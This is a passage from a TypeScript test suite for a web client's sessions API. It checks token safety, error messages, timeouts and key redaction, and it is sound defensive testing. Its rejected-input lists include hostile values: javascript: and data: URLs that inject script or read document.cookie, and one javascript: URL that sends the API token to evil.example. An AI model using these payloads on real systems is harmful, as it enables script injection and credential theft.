import { expect } from '@open-wc/testing';
import {
  ApiError,
  DEFAULT_TIMEOUT_MS,
  fetchSessionsPage,
  isSafeForToken,
  sessionsUrl,
  type ApiErrorKind,
  type SessionsRequest,
} from '../../src/api/client.js';
import { parseRetryAfter } from '../../src/api/http-errors.js';

const TOKEN = 'rsk_test_s3cr3tT0k3nValue9f8e7d';
const PAGE_URL = 'https://portal.example/team/sessions.html';

interface Call {
  url: URL;
  init: RequestInit;
}

/** A fetch that records its calls and answers each with `answer()`. */
function fakeFetch(answer: (call: Call) => Response | Promise<Response>) {
  const calls: Call[] = [];
  const impl = ((input: RequestInfo | URL, init: RequestInit = {}) => {
    const call = { url: new URL(String(input)), init };
    calls.push(call);
    return Promise.resolve().then(() => answer(call));
  }) as typeof fetch;
  return { impl, calls };
}

/** A fetch that never answers: it rejects only when its signal aborts, as the real one does. */
function hangingFetch() {
  const calls: Call[] = [];
  const impl = ((input: RequestInfo | URL, init: RequestInit = {}) => {
    calls.push({ url: new URL(String(input)), init });
    return new Promise<Response>((_, reject) => {
      const signal = init.signal!;
      if (signal.aborted) reject(signal.reason);
      signal.addEventListener('abort', () => reject(signal.reason), { once: true });
    });
  }) as typeof fetch;
  return { impl, calls };
}

const json = (body: unknown, init: ResponseInit = {}) =>
  new Response(JSON.stringify(body), { status: 200, headers: { 'Content-Type': 'application/json' }, ...init });

const text = (body: string, init: ResponseInit = {}) => new Response(body, { status: 200, ...init });

const okPage = { sessions: [{ id: 'a1b2c3d4e5f6a7b8', status: 'working', costUsd: '0.14' }], cursor: 'next-1' };

function request(fields: Partial<SessionsRequest> = {}): SessionsRequest {
  return {
    apiBase: 'https://app.rensei.ai',
    project: 'acme',
    token: TOKEN,
    cursor: null,
    pageUrl: PAGE_URL,
    signal: new AbortController().signal,
    ...fields,
  };
}

async function rejection(promise: Promise<unknown>): Promise<unknown> {
  try {
    await promise;
  } catch (error) {
    return error;
  }
  throw new Error('expected the promise to reject');
}

async function apiError(promise: Promise<unknown>, kind: ApiErrorKind): Promise<ApiError> {
  const error = await rejection(promise);
  expect(error, String(error)).to.be.instanceOf(ApiError);
  const apiErr = error as ApiError;
  expect(apiErr.kind, apiErr.message).to.equal(kind);
  expect(apiErr.name).to.equal('ApiError');
  expect(apiErr.message).to.not.contain(TOKEN);
  expect(apiErr.message).to.not.contain('s3cr3t');
  return apiErr;
}

describe('client: sessionsUrl', () => {
  it('builds {apiBase}/api/public/sessions for an origin', () => {
    expect(sessionsUrl('https://app.rensei.ai', '', null, PAGE_URL).href).to.equal(
      'https://app.rensei.ai/api/public/sessions',
    );
  });

  it('sends a slug as ?project=', () => {
    const url = sessionsUrl('https://app.rensei.ai', 'acme-web', null, PAGE_URL);
    expect(url.searchParams.get('project')).to.equal('acme-web');
    expect(url.searchParams.has('projectId')).to.equal(false);
  });

  it('sends a proj_… id as ?projectId=', () => {
    const url = sessionsUrl('https://app.rensei.ai', 'proj_abc123', null, PAGE_URL);
    expect(url.searchParams.get('projectId')).to.equal('proj_abc123');
    expect(url.searchParams.has('project')).to.equal(false);
  });

  it('trims the project, and sends neither parameter when it is empty or blank', () => {
    expect(sessionsUrl('https://app.rensei.ai', '  acme ', null, PAGE_URL).searchParams.get('project')).to.equal(
      'acme',
    );
    for (const project of ['', '   ']) {
      const url = sessionsUrl('https://app.rensei.ai', project, null, PAGE_URL);
      expect(url.search).to.equal('');
    }
  });

  it('encodes the project and the cursor', () => {
    const url = sessionsUrl('https://app.rensei.ai', 'a&b=c', 'x/y+z=&?', PAGE_URL);
    expect(url.searchParams.get('project')).to.equal('a&b=c');
    expect(url.searchParams.get('cursor')).to.equal('x/y+z=&?');
    expect([...url.searchParams.keys()]).to.deep.equal(['project', 'cursor']);
  });

  it('adds ?cursor= only when there is one', () => {
    expect(sessionsUrl('https://app.rensei.ai', '', 'abc', PAGE_URL).href).to.equal(
      'https://app.rensei.ai/api/public/sessions?cursor=abc',
    );
    expect(sessionsUrl('https://app.rensei.ai', '', null, PAGE_URL).searchParams.has('cursor')).to.equal(false);
    expect(sessionsUrl('https://app.rensei.ai', '', undefined, PAGE_URL).searchParams.has('cursor')).to.equal(false);
    expect(sessionsUrl('https://app.rensei.ai', '', '', PAGE_URL).searchParams.has('cursor')).to.equal(false);
  });

  it('keeps a path prefix in api-base, with or without a trailing slash', () => {
    expect(sessionsUrl('https://portal.example/rensei', '', null, PAGE_URL).href).to.equal(
      'https://portal.example/rensei/api/public/sessions',
    );
    expect(sessionsUrl('https://portal.example/rensei/', '', null, PAGE_URL).href).to.equal(
      'https://portal.example/rensei/api/public/sessions',
    );
    expect(sessionsUrl('https://app.rensei.ai/', '', null, PAGE_URL).href).to.equal(
      'https://app.rensei.ai/api/public/sessions',
    );
  });

  it('resolves a relative api-base against the page URL', () => {
    expect(sessionsUrl('/proxy', 'acme', null, PAGE_URL).href).to.equal(
      'https://portal.example/proxy/api/public/sessions?project=acme',
    );
    expect(sessionsUrl('', '', null, PAGE_URL).href).to.equal('https://portal.example/api/public/sessions');
  });

  it('keeps a port', () => {
    expect(sessionsUrl('http://localhost:8787', '', null, PAGE_URL).href).to.equal(
      'http://localhost:8787/api/public/sessions',
    );
  });
});

describe('client: isSafeForToken', () => {
  const safe = (href: string) => isSafeForToken(new URL(href));
  it('allows HTTPS anywhere', () => {
    expect(safe('https://app.rensei.ai/api')).to.equal(true);
    expect(safe('https://10.0.0.1/api')).to.equal(true);
  });
  it('allows plain HTTP to loopback only', () => {
    expect(safe('http://localhost:3000/api')).to.equal(true);
    expect(safe('http://LOCALHOST/api')).to.equal(true);
    expect(safe('http://127.0.0.1:8080/api')).to.equal(true);
    expect(safe('http://127.1.2.3/api')).to.equal(true);
    expect(safe('http://[::1]:8080/api')).to.equal(true);
  });
  it('refuses plain HTTP elsewhere, including look-alikes', () => {
    expect(safe('http://app.rensei.ai/api')).to.equal(false);
    expect(safe('http://192.168.1.10/api')).to.equal(false);
    expect(safe('http://localhost.evil.example/api')).to.equal(false);
    expect(safe('http://127.0.0.1.evil.example/api')).to.equal(false);
    expect(safe('http://evil-localhost/api')).to.equal(false);
  });
  it('refuses other protocols', () => {
    expect(safe('ftp://localhost/api')).to.equal(false);
    expect(safe('ws://localhost/api')).to.equal(false);
  });
});

describe('client: parseRetryAfter', () => {
  const now = Date.parse('2026-06-02T14:22:00Z');
  it('reads seconds', () => {
    expect(parseRetryAfter('120', now)).to.equal(120_000);
    expect(parseRetryAfter(' 5 ', now)).to.equal(5_000);
    expect(parseRetryAfter('0', now)).to.equal(0);
    expect(parseRetryAfter('1.5', now)).to.equal(1_500);
  });
  it('reads an HTTP date relative to now', () => {
    expect(parseRetryAfter('Tue, 02 Jun 2026 14:23:30 GMT', now)).to.equal(90_000);
  });
  it('clamps a date in the past to 0', () => {
    expect(parseRetryAfter('Tue, 02 Jun 2026 14:00:00 GMT', now)).to.equal(0);
  });
  it('is null when absent, blank or unreadable', () => {
    expect(parseRetryAfter(null, now)).to.equal(null);
    expect(parseRetryAfter('', now)).to.equal(null);
    expect(parseRetryAfter('   ', now)).to.equal(null);
    expect(parseRetryAfter('soon', now)).to.equal(null);
  });
});

describe('client: fetchSessionsPage', () => {
  describe('success', () => {
    it('parses the page', async () => {
      const { impl } = fakeFetch(() => json(okPage));
      const page = await fetchSessionsPage(request(), impl);
      expect(page).to.deep.equal({ sessions: okPage.sessions, rejected: [], cursor: 'next-1', unreadable: 0 });
    });

    it('keeps valid rows and reports rejected ones', async () => {
      const { impl } = fakeFetch(() => json({ sessions: [{ id: 'aa', status: 'working' }, { status: 'working' }] }));
      const page = await fetchSessionsPage(request(), impl);
      expect(page.sessions.map((s) => s.id)).to.deep.equal(['aa']);
      expect(page.rejected).to.deep.equal([{ index: 1, reason: '`sessions[1].id` is missing' }]);
      expect(page.cursor).to.equal(null);
    });

    it('requests the built URL, with the cursor', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await fetchSessionsPage(
        request({ apiBase: 'https://portal.example/rensei', project: 'proj_abc123', cursor: 'cur/2' }),
        impl,
      );
      expect(calls).to.have.length(1);
      expect(calls[0]!.url.origin + calls[0]!.url.pathname).to.equal(
        'https://portal.example/rensei/api/public/sessions',
      );
      expect(calls[0]!.url.searchParams.get('projectId')).to.equal('proj_abc123');
      expect(calls[0]!.url.searchParams.get('cursor')).to.equal('cur/2');
    });

    it('resolves a relative api-base against pageUrl', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await fetchSessionsPage(request({ apiBase: '/proxy', project: '' }), impl);
      expect(calls[0]!.url.href).to.equal('https://portal.example/proxy/api/public/sessions');
    });
  });

  describe('credentials', () => {
    it('sends the token as a Bearer header, without cookies', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await fetchSessionsPage(request(), impl);
      const headers = new Headers(calls[0]!.init.headers);
      expect(headers.get('Authorization')).to.equal(`Bearer ${TOKEN}`);
      expect(headers.get('Accept')).to.equal('application/json');
      expect(calls[0]!.init.credentials).to.not.equal('include');
      expect(calls[0]!.init.cache).to.equal('no-store');
      expect(calls[0]!.url.href).to.not.contain(TOKEN);
    });

    it('without a token sends no Authorization header and includes credentials (the cookie)', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await fetchSessionsPage(request({ token: '' }), impl);
      const headers = new Headers(calls[0]!.init.headers);
      expect(headers.has('Authorization')).to.equal(false);
      expect(calls[0]!.init.credentials).to.equal('include');
    });

    it('passes a signal to fetch', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await fetchSessionsPage(request(), impl);
      expect(calls[0]!.init.signal).to.be.instanceOf(AbortSignal);
    });
  });

  describe('insecure', () => {
    it('refuses to send a token over plain HTTP to another host, without calling fetch', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      const error = await apiError(
        fetchSessionsPage(request({ apiBase: 'http://portal.example/rensei' }), impl),
        'insecure',
      );
      expect(error.message).to.contain('HTTPS');
      expect(error.message).to.contain('http://portal.example');
      expect(calls).to.have.length(0);
    });

    it('refuses a relative api-base on an http page that is not loopback', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await apiError(
        fetchSessionsPage(request({ apiBase: '/proxy', pageUrl: 'http://intranet.example/page' }), impl),
        'insecure',
      );
      expect(calls).to.have.length(0);
    });

    for (const apiBase of ['http://localhost:8787', 'http://127.0.0.1:8787', 'http://[::1]:8787']) {
      it(`allows a token over HTTP to ${apiBase}`, async () => {
        const { impl, calls } = fakeFetch(() => json(okPage));
        await fetchSessionsPage(request({ apiBase }), impl);
        expect(new Headers(calls[0]!.init.headers).get('Authorization')).to.equal(`Bearer ${TOKEN}`);
      });
    }

    it('allows plain HTTP without a token (cookie only)', async () => {
      const { impl, calls } = fakeFetch(() => json(okPage));
      await fetchSessionsPage(request({ apiBase: 'http://portal.example', token: '' }), impl);
      expect(calls).to.have.length(1);
    });
  });

  describe('HTTP errors', () => {
    for (const status of [401, 403]) {
      it(`${status} → auth, telling the reader to check the key or sign in`, async () => {
        const { impl } = fakeFetch(() => json({ error: 'Invalid API key' }, { status }));
        const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
        expect(error.status).to.equal(status);
        expect(error.message).to.contain('check the API key, or sign in');
        expect(error.message).to.contain(String(status));
        expect(error.message).to.contain('Invalid API key');
      });
    }

    it('404 → not-found, naming the project', async () => {
      const { impl } = fakeFetch(() => json({ error: 'Project not found' }, { status: 404 }));
      const error = await apiError(fetchSessionsPage(request({ project: 'acme-web' }), impl), 'not-found');
      expect(error.status).to.equal(404);
      expect(error.message).to.contain('acme-web');
      expect(error.message).to.contain('404');
      expect(error.message).to.contain('Project not found');
    });

    it('404 without a project says the API was not found', async () => {
      const { impl } = fakeFetch(() => text('<html>Not Found</html>', { status: 404 }));
      const error = await apiError(fetchSessionsPage(request({ project: '' }), impl), 'not-found');
      expect(error.message).to.contain('sessions API was not found');
      expect(error.message).to.contain('api-base');
      expect(error.message).to.not.contain('The server said');
    });

    for (const status of [429, 503]) {
      it(`${status} → rate-limited, with Retry-After in seconds`, async () => {
        const { impl } = fakeFetch(() => json({ error: 'Slow down' }, { status, headers: { 'Retry-After': '30' } }));
        const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
        expect(error.status).to.equal(status);
        expect(error.retryAfterMs).to.equal(30_000);
        expect(error.message).to.contain(String(status));
        expect(error.message).to.contain('Slow down');
      });
    }

    it('429 → rate-limited, with Retry-After as an HTTP date', async () => {
      const when = new Date(Date.now() + 60_000).toUTCString();
      const { impl } = fakeFetch(() => text('', { status: 429, headers: { 'Retry-After': when } }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
      expect(error.retryAfterMs).to.be.within(55_000, 60_000);
    });

    it('rate-limited without Retry-After has retryAfterMs null', async () => {
      const { impl } = fakeFetch(() => text('', { status: 503 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
      expect(error.retryAfterMs).to.equal(null);
    });

    for (const status of [500, 502, 504]) {
      it(`${status} → server`, async () => {
        const { impl } = fakeFetch(() => text('<html><body>Bad Gateway</body></html>', { status }));
        const error = await apiError(fetchSessionsPage(request(), impl), 'server');
        expect(error.status).to.equal(status);
        expect(error.message).to.contain(String(status));
        expect(error.message).to.not.contain('<html>');
      });
    }

    it('other non-2xx → http', async () => {
      const { impl } = fakeFetch(() => json({ error: 'I am a teapot' }, { status: 418 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'http');
      expect(error.status).to.equal(418);
      expect(error.message).to.contain('418');
      expect(error.message).to.contain('I am a teapot');
    });

    it("quotes the server's { error } in the message", async () => {
      const { impl } = fakeFetch(() => json({ error: 'Session not found' }, { status: 404 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'not-found');
      expect(error.message).to.contain('The server said: “Session not found”.');
    });

    it('bounds a long server error to 200 characters', async () => {
      const { impl } = fakeFetch(() => json({ error: 'x'.repeat(5_000) }, { status: 500 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'server');
      expect(error.message).to.contain('x'.repeat(200));
      expect(error.message).to.not.contain('x'.repeat(201));
    });

    it('quotes nothing when the error field is not a string', async () => {
      const { impl } = fakeFetch(() => json({ error: { code: 42 } }, { status: 500 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'server');
      expect(error.message).to.not.contain('The server said');
    });
  });

  describe('bad bodies', () => {
    it('an HTML page on 200 → not-json, hinting at HTML and api-base', async () => {
      const { impl } = fakeFetch(() =>
        text('<!doctype html><html><body>Portal login</body></html>', { headers: { 'Content-Type': 'text/html' } }),
      );
      const error = await apiError(fetchSessionsPage(request(), impl), 'not-json');
      expect(error.status).to.equal(200);
      expect(error.message).to.contain('not JSON');
      expect(error.message).to.contain('HTML');
      expect(error.message).to.contain('api-base');
      expect(error.message).to.not.contain('Portal login');
    });

    it('truncated JSON → not-json, saying it may have been cut off', async () => {
      const { impl } = fakeFetch(() => text('{"sessions":[{"id":"a1b2c3d4e5f6a7b8","sta'));
      const error = await apiError(fetchSessionsPage(request(), impl), 'not-json');
      expect(error.message).to.contain('cut off');
      expect(error.message).to.not.contain('HTML');
    });

    it('an empty 200 body → not-json', async () => {
      await apiError(fetchSessionsPage(request(), fakeFetch(() => text('')).impl), 'not-json');
    });

    it('JSON that is not a session list → invalid, saying so', async () => {
      const { impl } = fakeFetch(() => json({ items: [] }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'invalid');
      expect(error.status).to.equal(200);
      expect(error.message).to.equal("The server's answer is not a session list: `sessions` is missing.");
    });

    it('a JSON array or string → invalid', async () => {
      await apiError(fetchSessionsPage(request(), fakeFetch(() => json([okPage])).impl), 'invalid');
      await apiError(fetchSessionsPage(request(), fakeFetch(() => json('sessions')).impl), 'invalid');
    });
  });

  describe('no answer', () => {
    it('a network TypeError → network, naming the origin and hinting at CORS', async () => {
      const impl = (() => Promise.reject(new TypeError('Failed to fetch'))) as typeof fetch;
      const error = await apiError(
        fetchSessionsPage(request({ apiBase: 'https://api.elsewhere.example/x' }), impl),
        'network',
      );
      expect(error.message).to.contain('https://api.elsewhere.example');
      expect(error.message).to.contain('CORS');
      expect(error.status).to.equal(null);
      expect(error.message).to.not.contain('Failed to fetch');
    });

    it('a body stream that errors mid-read → network, "broke in the middle"', async () => {
      const impl = (() => {
        let sent = false;
        const body = new ReadableStream<Uint8Array>({
          pull(controller) {
            if (!sent) {
              sent = true;
              controller.enqueue(new TextEncoder().encode('{"sessions":[{"id":"a1b2'));
            } else {
              controller.error(new TypeError('network error'));
            }
          },
        });
        return Promise.resolve(new Response(body, { status: 200 }));
      }) as typeof fetch;
      const error = await apiError(fetchSessionsPage(request(), impl), 'network');
      expect(error.message).to.contain('broke in the middle');
    });

    it('no answer within timeoutMs → timeout, and the fetch is aborted', async () => {
      const { impl, calls } = hangingFetch();
      const started = performance.now();
      const error = await apiError(fetchSessionsPage(request({ timeoutMs: 50 }), impl), 'timeout');
      expect(performance.now() - started).to.be.below(5_000);
      expect(error.message).to.contain('did not answer');
      expect(calls[0]!.init.signal!.aborted).to.equal(true);
    });

    it('says the timeout in seconds', async () => {
      const error = await apiError(fetchSessionsPage(request({ timeoutMs: 1_000 }), hangingFetch().impl), 'timeout');
      expect(error.message).to.contain('1 s');
    });

    it('a body that stalls past the timeout → timeout', async () => {
      const impl = ((_input: RequestInfo | URL, init: RequestInit = {}) => {
        const body = new ReadableStream<Uint8Array>({
          start(controller) {
            controller.enqueue(new TextEncoder().encode('{"sessions":'));
            init.signal!.addEventListener('abort', () => controller.error(init.signal!.reason));
          },
        });
        return Promise.resolve(new Response(body, { status: 200 }));
      }) as typeof fetch;
      await apiError(fetchSessionsPage(request({ timeoutMs: 50 }), impl), 'timeout');
    });

    it('defaults the timeout to 30 s', () => {
      expect(DEFAULT_TIMEOUT_MS).to.equal(30_000);
    });

    it("an abort from the caller's signal rejects with the abort reason, not an ApiError", async () => {
      const controller = new AbortController();
      const reason = new DOMException('The widget was disconnected', 'AbortError');
      const { impl, calls } = hangingFetch();
      const pending = fetchSessionsPage(request({ signal: controller.signal }), impl);
      await Promise.resolve();
      await new Promise((resolve) => setTimeout(resolve, 0));
      expect(calls).to.have.length(1);
      controller.abort(reason);
      const error = await rejection(pending);
      expect(error).to.equal(reason);
      expect(error).to.not.be.instanceOf(ApiError);
    });

    it('an already-aborted signal rejects with its reason', async () => {
      const controller = new AbortController();
      const reason = new Error('gone');
      controller.abort(reason);
      const error = await rejection(fetchSessionsPage(request({ signal: controller.signal }), hangingFetch().impl));
      expect(error).to.equal(reason);
    });

    it("an abort during the body read rejects with the caller's reason", async () => {
      const controller = new AbortController();
      const reason = new DOMException('stop', 'AbortError');
      const impl = ((_input: RequestInfo | URL, init: RequestInit = {}) => {
        const body = new ReadableStream<Uint8Array>({
          start(stream) {
            stream.enqueue(new TextEncoder().encode('{"sessions":'));
            init.signal!.addEventListener('abort', () => stream.error(init.signal!.reason));
          },
        });
        setTimeout(() => controller.abort(reason), 10);
        return Promise.resolve(new Response(body, { status: 200 }));
      }) as typeof fetch;
      const error = await rejection(fetchSessionsPage(request({ signal: controller.signal }), impl));
      expect(error).to.equal(reason);
    });
  });

  describe('the token never appears in a message', () => {
    const cases: Array<[ApiErrorKind, Partial<SessionsRequest>, typeof fetch]> = [
      ['insecure', { apiBase: 'http://portal.example' }, fakeFetch(() => json(okPage)).impl],
      ['auth', {}, fakeFetch(() => json({ error: 'Unauthorized' }, { status: 401 })).impl],
      ['auth', {}, fakeFetch(() => text('', { status: 403 })).impl],
      ['not-found', {}, fakeFetch(() => json({ error: 'Not found' }, { status: 404 })).impl],
      ['rate-limited', {}, fakeFetch(() => text('', { status: 429, headers: { 'Retry-After': '1' } })).impl],
      ['server', {}, fakeFetch(() => text('oops', { status: 500 })).impl],
      ['http', {}, fakeFetch(() => text('', { status: 400 })).impl],
      ['not-json', {}, fakeFetch(() => text('<html></html>')).impl],
      ['not-json', {}, fakeFetch(() => text('{"sess')).impl],
      ['invalid', {}, fakeFetch(() => json({ sessions: 'no' })).impl],
      ['network', {}, (() => Promise.reject(new TypeError(`Failed to fetch with ${TOKEN}`))) as typeof fetch],
      ['timeout', { timeoutMs: 20 }, hangingFetch().impl],
    ];
    for (const [kind, fields, impl] of cases) {
      it(`${kind}`, async () => {
        // apiError asserts the message does not contain the token.
        await apiError(fetchSessionsPage(request(fields), impl), kind);
      });
    }

    it('a mid-body network failure', async () => {
      const impl = (() =>
        Promise.resolve(
          new Response(
            new ReadableStream({
              pull(controller) {
                controller.error(new TypeError(TOKEN));
              },
            }),
          ),
        )) as typeof fetch;
      await apiError(fetchSessionsPage(request(), impl), 'network');
    });

    it('when the server echoes the key in its error, the quote keeps the rest but not the key', async () => {
      const { impl } = fakeFetch(() => json({ error: `Invalid API key ${TOKEN} for org acme` }, { status: 401 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
      expect(error.message).to.contain('Invalid API key');
      expect(error.message).to.contain('for org acme');
    });

    it('when the server echoes the key in every error kind that quotes', async () => {
      for (const [status, kind] of [
        [403, 'auth'],
        [404, 'not-found'],
        [429, 'rate-limited'],
        [500, 'server'],
        [400, 'http'],
      ] as const) {
        const { impl } = fakeFetch(() => json({ error: `${TOKEN} ${TOKEN}` }, { status }));
        await apiError(fetchSessionsPage(request(), impl), kind);
      }
    });

    it('does not leak a key cut by the 200-character bound', async () => {
      const { impl } = fakeFetch(() => json({ error: 'x'.repeat(200 - TOKEN.length + 1) + TOKEN }, { status: 401 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
      expect(error.message).to.not.contain(TOKEN.slice(0, -1));
    });
  });
});

/** No run of 6 of the key's secret characters, in any case, whatever stands between them. */
function expectNoKeyPiece(message: string): void {
  const fold = (text: string) => text.toLowerCase().replace(/[^a-z0-9]/g, '');
  const secret = fold(TOKEN.slice('rsk_test_'.length));
  const folded = fold(message);
  for (let i = 0; i + 6 <= secret.length; i++) {
    expect(folded, `contains "${secret.slice(i, i + 6)}"`).to.not.contain(secret.slice(i, i + 6));
  }
}

describe('client: Retry-After is capped at an hour', () => {
  const now = Date.parse('2026-06-02T14:22:00Z');

  it('caps seconds past an hour, and far-future dates, at an hour', () => {
    expect(parseRetryAfter('3600', now)).to.equal(3_600_000);
    expect(parseRetryAfter('3601', now)).to.equal(3_600_000);
    expect(parseRetryAfter('2200000', now)).to.equal(3_600_000);
    expect(parseRetryAfter('9'.repeat(400), now)).to.equal(3_600_000);
    expect(parseRetryAfter('Fri, 31 Dec 9999 23:59:59 GMT', now)).to.equal(3_600_000);
    expect(parseRetryAfter('Wed, 03 Jun 2026 14:22:00 GMT', now)).to.equal(3_600_000);
  });

  it('reads an HTTP date only when it looks like one: "-5" or "1 hour" are not years', () => {
    expect(parseRetryAfter('-5', now)).to.equal(null);
    expect(parseRetryAfter('-1', now)).to.equal(null);
    expect(parseRetryAfter('1 hour', now)).to.equal(null);
    expect(parseRetryAfter('2026-06-03', now)).to.equal(null);
    expect(parseRetryAfter('Sunday, 06-Nov-94 08:49:37 GMT', now)).to.equal(0);
  });

  for (const [status, kind] of [
    [429, 'rate-limited'],
    [503, 'rate-limited'],
    [500, 'server'],
  ] as const) {
    it(`${status} with Retry-After: 2200000 waits an hour, and says it was asked for more, without absurd numbers`, async () => {
      const { impl } = fakeFetch(() => text('', { status, headers: { 'Retry-After': '2200000' } }));
      const error = await apiError(fetchSessionsPage(request(), impl), kind);
      expect(error.retryAfterMs).to.equal(3_600_000);
      expect(error.retryAfterCapped).to.equal(true);
      expect(error.message).to.contain('It asked to wait 26 days; waiting 1 h at most.');
      expect(error.message).to.not.match(/\d[\d,.]{4,}/);
    });
  }

  it('a far-future HTTP date: an hour, in words, with no number of days no one can read', async () => {
    const { impl } = fakeFetch(() =>
      text('', { status: 429, headers: { 'Retry-After': 'Fri, 31 Dec 9999 23:59:59 GMT' } }),
    );
    const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
    expect(error.retryAfterMs).to.equal(3_600_000);
    expect(error.retryAfterCapped).to.equal(true);
    expect(error.message).to.contain('It asked to wait more than 999 days; waiting 1 h at most.');
    expect(error.message).to.not.match(/\d[\d,.]{4,}/);
  });

  it('a Retry-After within the hour is obeyed as sent, and not called capped', async () => {
    const { impl } = fakeFetch(() => text('', { status: 429, headers: { 'Retry-After': '3600' } }));
    const error = await apiError(fetchSessionsPage(request(), impl), 'rate-limited');
    expect(error.retryAfterMs).to.equal(3_600_000);
    expect(error.retryAfterCapped).to.equal(false);
    expect(error.message).to.not.contain('asked to wait');
  });

  it('an ApiError made without a Retry-After is not capped', () => {
    expect(new ApiError('network', 'x').retryAfterCapped).to.equal(false);
  });
});

describe('client: the request timeout never overflows', () => {
  /** True when the request is still waiting after `ms`: its timer did not fire at once. */
  async function stillWaiting(timeoutMs: number, ms = 100): Promise<boolean> {
    const controller = new AbortController();
    let settled = false;
    const pending = fetchSessionsPage(request({ timeoutMs, signal: controller.signal }), hangingFetch().impl).finally(
      () => (settled = true),
    );
    await new Promise((resolve) => setTimeout(resolve, ms));
    const waiting = !settled;
    controller.abort(new Error('done'));
    await pending.catch(() => undefined);
    return waiting;
  }

  it('a timeout past 2^31−1 ms waits (setTimeout would wrap it to about 0)', async () => {
    expect(await stillWaiting(2 ** 31 + 5)).to.equal(true);
    expect(await stillWaiting(1e300)).to.equal(true);
    expect(await stillWaiting(Infinity)).to.equal(true);
  });

  it('a timeout of NaN, 0 or less is the 30 s default, not at once', async () => {
    for (const timeoutMs of [NaN, 0, -5]) expect(await stillWaiting(timeoutMs), String(timeoutMs)).to.equal(true);
  });
});

describe('client: api-base must be an http(s) URL', () => {
  for (const apiBase of [
    'javascript:alert(1)',
    'JavaScript:alert(document.cookie)//',
    'data:text/html,<script>alert(1)</script>',
    'ftp://files.example/rensei',
    'file:///etc',
    'http://[not-a-host',
    'https://',
    'blob:https://portal.example/x',
  ]) {
    it(`"${apiBase}" → config, saying so, without calling fetch (with a key or without)`, async () => {
      for (const token of [TOKEN, '']) {
        const { impl, calls } = fakeFetch(() => json(okPage));
        const error = await apiError(fetchSessionsPage(request({ apiBase, token }), impl), 'config');
        expect(error.message).to.contain('api-base is not a valid http(s) URL');
        expect(error.status).to.equal(null);
        expect(calls).to.have.length(0);
      }
      expect(() => sessionsUrl(apiBase, '', null, PAGE_URL)).to.throw(ApiError, 'api-base is not a valid http(s) URL');
    });
  }

  it('a relative api-base on a page that is not http(s) → config', async () => {
    const error = await apiError(
      fetchSessionsPage(request({ apiBase: '/proxy', pageUrl: 'about:blank' }), fakeFetch(() => json(okPage)).impl),
      'config',
    );
    expect(error.message).to.contain('api-base is not a valid http(s) URL');
  });

  it('does not quote the api-base it refuses', async () => {
    const apiBase = `javascript:fetch('https://evil.example/?k=${TOKEN}')`;
    const error = await apiError(fetchSessionsPage(request({ apiBase }), fakeFetch(() => json(okPage)).impl), 'config');
    expect(error.message).to.not.contain('evil');
  });
});

describe('client: an answer with no content', () => {
  it('a 204 says the server answered with no content, not that it was cut off', async () => {
    const { impl } = fakeFetch(() => new Response(null, { status: 204 }));
    const error = await apiError(fetchSessionsPage(request(), impl), 'not-json');
    expect(error.status).to.equal(204);
    expect(error.message).to.contain('no content');
    expect(error.message).to.contain('204');
    expect(error.message).to.not.contain('cut off');
  });

  it('a 200 with an empty or blank body says the same', async () => {
    for (const body of ['', '  \n\t ']) {
      const error = await apiError(fetchSessionsPage(request(), fakeFetch(() => text(body)).impl), 'not-json');
      expect(error.message).to.contain('no content');
      expect(error.message).to.not.contain('cut off');
    }
  });
});

describe('client: a key echoed back in any disguise is redacted', () => {
  const secret = TOKEN.slice('rsk_test_'.length);
  const echoes: Array<[string, string]> = [
    ['lower-cased', TOKEN.toLowerCase()],
    ['upper-cased', TOKEN.toUpperCase()],
    ['spaced out', TOKEN.split('').join(' ')],
    ['hyphen-split', `rsk_test_${secret.match(/.{1,4}/g)!.join('-')}`],
    ['hyphen-split in two', `${TOKEN.slice(0, 14)}-${TOKEN.slice(14, 22)}-${TOKEN.slice(22)}`],
    ['split by punctuation and new lines', secret.match(/.{1,4}/g)!.join('.\n')],
    ['the secret alone, upper-cased and dotted', secret.toUpperCase().split('').join('.')],
    ['a piece of it, lower-cased', secret.slice(3, 12).toLowerCase()],
  ];
  for (const [how, echo] of echoes) {
    it(`${how}`, async () => {
      const { impl } = fakeFetch(() => json({ error: `Invalid API key ${echo} for org acme` }, { status: 401 }));
      const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
      expectNoKeyPiece(error.message);
      expect(error.message).to.contain('Invalid API key');
      expect(error.message).to.contain('for org acme');
      expect(error.message).to.contain('…');
    });
  }

  it('leaves text that only shares short runs with the key alone', async () => {
    const said = 'Key rsk_test_abc refused: its value was not valid (S3CR3 is 5 characters, see docs/keys).';
    const { impl } = fakeFetch(() => json({ error: said }, { status: 401 }));
    const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
    expect(error.message).to.contain(said);
  });

  it('redacts every echo in one message, and never the case of the rest', async () => {
    const { impl } = fakeFetch(() =>
      json({ error: `A ${TOKEN.toLowerCase()} B ${TOKEN.toUpperCase()} C ${TOKEN} D` }, { status: 403 }),
    );
    const error = await apiError(fetchSessionsPage(request(), impl), 'auth');
    expectNoKeyPiece(error.message);
    expect(error.message).to.contain('“A rsk_… B rsk_… C rsk_… D”');
  });

  it('a 1 MB hostile error body does not freeze the widget, and leaks nothing', async () => {
    const hostile = Array.from({ length: 60_000 }, (_, i) =>
      i % 2 ? secret.toUpperCase().split('').join(' ') : secret.slice(0, 5),
    ).join('-');
    expect(hostile.length).to.be.above(1_000_000);
    const { impl } = fakeFetch(() => json({ error: hostile }, { status: 500 }));
    const started = performance.now();
